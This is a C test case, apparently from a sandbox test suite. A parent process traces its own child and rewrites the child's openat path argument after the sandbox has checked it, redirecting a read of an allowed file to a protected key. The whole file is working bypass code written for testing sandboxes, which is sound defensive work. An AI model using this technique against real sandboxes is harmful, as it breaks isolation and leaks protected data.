// Stops a child of its own at a system call and changes its arguments after they were judged:
// what a tracer can do to a check made before the trace stop.
// class: OS sandboxes: races by a tracer
// plain: leak
// journal: system *ptrace*
#include "attack.h"
#include <sys/ptrace.h>
#include <sys/user.h>

static char harmless[PATH_MAX];

int main(int argc, char** argv) {
  (void)argc;
  attack(argv);
  snprintf(harmless, sizeof harmless, "%s/allowed.txt", fact("W"));
  const pid_t child = fork();
  if (child == 0) {
    if (ptrace(PTRACE_TRACEME, 0, NULL, NULL) != 0) refused("traceme");
    raise(SIGSTOP);
    read_path(harmless);
    _exit(0);
  }
  int status = 0;
  waitpid(child, &status, WUNTRACED);
  if (ptrace(PTRACE_SYSCALL, child, NULL, NULL) != 0) {
    refused("trace");
    kill(child, SIGKILL);
    return 0;
  }
  while (waitpid(child, &status, 0) == child && WIFSTOPPED(status)) {
    struct user_regs_struct r;
    ptrace(PTRACE_GETREGS, child, NULL, &r);
    if (r.orig_rax == SYS_openat && r.rsi == (uintptr_t)harmless) {
      const char* key = fact("KEY");
      for (size_t i = 0; i <= strlen(key); i += 8) {
        long word;
        memcpy(&word, key + i, 8);
        ptrace(PTRACE_POKEDATA, child, harmless + i, word);
      }
    }
    ptrace(PTRACE_SYSCALL, child, NULL, NULL);
  }
  return 0;
}
